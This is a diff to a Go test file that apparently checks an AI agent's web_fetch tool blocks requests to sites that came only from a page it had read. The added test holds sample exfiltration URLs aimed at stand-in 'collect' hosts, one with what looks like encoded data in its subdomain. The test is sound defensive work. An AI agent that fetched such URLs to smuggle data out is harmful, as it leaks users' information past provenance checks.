@@ -101,6 +101,14 @@ func TestStrictProvenance(t *testing.T) {
 	if e := ask("/page", false); e != nil {
 		t.Errorf("%+v", e)
 	}
+	// A page that was read leads to other sites, letter by letter: no.
+	for _, elsewhere := range []string{"https://collect.example.net/s", "https://mzxw6ytboi2dknzwgq3tqojqge.collect.example.com/"} {
+		_, err := client.Call(context.Background(), "web_fetch", json.RawMessage(`{"url":"`+elsewhere+`"}`), spyhop.CallOptions{})
+		var e *spyhop.Error
+		if !errors.As(err, &e) || e.Type != tool.Blocked || !strings.Contains(e.Hint, "WEB_URL_GIVEN") {
+			t.Errorf("%s: %v", elsewhere, err)
+		}
+	}
 	if e := ask("/headers?leak=1", false); e == nil || e.Type != tool.Blocked {
 		t.Errorf("%+v", e)
 	}
